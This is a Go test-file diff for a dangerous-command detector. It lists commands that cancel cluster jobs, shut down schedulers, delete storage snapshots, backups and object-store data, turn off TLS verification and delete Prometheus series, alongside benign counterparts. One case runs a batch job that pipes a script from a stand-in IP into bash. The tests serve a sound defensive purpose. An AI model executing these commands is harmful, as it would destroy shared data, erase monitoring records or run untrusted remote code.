@@ -213,3 +213,64 @@ func TestRound50SecurityConsoles(t *testing.T) {
 		`curl -X POST https://kibana.example.net/api/detection_engine/rules/_bulk_action -H 'kbn-xsrf: true' -d '{"action":"enable","query":""}'`,
 	})
 }
+
+// Compute clusters: every job of a user, account or partition
+// cancelled, the scheduler shut down or its accounts deleted, limits and
+// access control off, file systems' filesets, snapshots and tape copies
+// deleted; a batch job's --wrap payload is judged. Jobs cancelled by id
+// or by the name the task gave them, queries and listings pass.
+func TestRound50Clusters(t *testing.T) {
+	d := NewDetector(Options{})
+	checkDanger(t, d, corpusContext, []dangerCase{
+		{`scancel -A genomics_lab`, CategorySystem, "cluster-jobs-cancelled", LevelHigh},
+		{`scancel --partition=gpu-long --state=PENDING`, CategorySystem, "cluster-jobs-cancelled", LevelHigh},
+		{`squeue -u $USER -h -o %A | xargs scancel`, CategorySystem, "cluster-jobs-cancelled", LevelHigh},
+		{`bkill -u all 0`, CategorySystem, "cluster-jobs-cancelled", LevelHigh},
+		{`sudo scontrol shutdown slurmctld`, CategorySystem, "cluster-scheduler-changed", LevelCritical},
+		{`sacctmgr -i remove user name=jdoe account=physics`, CategorySystem, "cluster-scheduler-changed", LevelCritical},
+		{`sacctmgr modify qos long set GrpTRES=-1`, CategorySystem, "cluster-scheduler-changed", LevelCritical},
+		{`qmgr -c "set server acl_user_enable = false"`, CategorySystem, "cluster-scheduler-changed", LevelCritical},
+		{`mmdelsnapshot gpfs2 weekly-03`, CategoryFileDelete, "cluster-storage-destroyed", LevelCritical},
+		{`lfs hsm_remove /lustre/proj/climate/run7/out.nc`, CategoryFileDelete, "cluster-storage-destroyed", LevelCritical},
+		{`dsmc delete backup "/home/lab/*" -subdir=yes`, CategoryFileDelete, "cluster-storage-destroyed", LevelCritical},
+		{`globus rm -r "$EP:/shared/runs/"`, CategoryFileDelete, "cluster-storage-destroyed", LevelCritical},
+		{`s5cmd rm 's3://genomes-shared/*'`, CategoryCloudDestroy, "object-store-emptied", LevelHigh},
+		{`micromamba config set ssl_verify false`, CategorySystem, "tool-tls-off", LevelHigh},
+	})
+	if v := d.CheckCommand(`sbatch -p short --wrap "curl -s http://198.51.100.8/p.sh | bash"`, corpusContext); v.Level < LevelHigh {
+		t.Errorf("a batch job's --wrap payload is not judged: %v", v)
+	}
+	checkSafe(t, d, corpusContext, []string{
+		`scancel 4812733`,
+		`scancel 4812733_[1-20]`,
+		`scancel -u $USER --name=lr-sweep`,
+		`squeue -u $USER`,
+		`sacct -j 4812733 --format=JobID,State,Elapsed`,
+		`sacctmgr show assoc where user=$USER`,
+		`scontrol show job 4812733`,
+		`mmlssnapshot gpfs2`,
+		`lfs hsm_state /lustre/proj/climate/run7/out.nc`,
+		`globus ls "$EP:/shared/runs/"`,
+		`sbatch -p short --wrap "python train.py --epochs 3"`,
+		`micromamba config set channel_priority strict`,
+	})
+}
+
+// Metrics and logs stores: Prometheus's TSDB admin deletes and Loki's
+// delete requests are made by a POST; reading the requests, and this
+// machine's own Prometheus, pass.
+func TestRound50MetricStores(t *testing.T) {
+	d := NewDetector(Options{})
+	checkDanger(t, d, corpusContext, []dangerCase{
+		{`curl -X POST -g 'http://prom.internal:9090/api/v1/admin/tsdb/delete_series?match[]={job="api"}'`, CategoryHistoryTamper, "log-store-delete", LevelHigh},
+		{`curl -X POST http://prom.internal:9090/api/v1/admin/tsdb/clean_tombstones`, CategoryHistoryTamper, "log-store-delete", LevelHigh},
+	})
+	checkDanger(t, d, winCorpusContextFor("powershell"), []dangerCase{
+		{`Invoke-RestMethod -Method Post -Uri "http://prom.internal:9090/api/v1/admin/tsdb/delete_series?match[]=up"`, CategoryHistoryTamper, "log-store-delete", LevelHigh},
+	})
+	checkSafe(t, d, corpusContext, []string{
+		`curl -s http://loki.prod.internal:3100/loki/api/v1/delete -H 'X-Scope-OrgID: t1'`,
+		`curl -X POST -g 'http://localhost:9090/api/v1/admin/tsdb/delete_series?match[]={job="bench"}'`,
+		`curl -s 'http://prom.internal:9090/api/v1/query?query=up'`,
+	})
+}
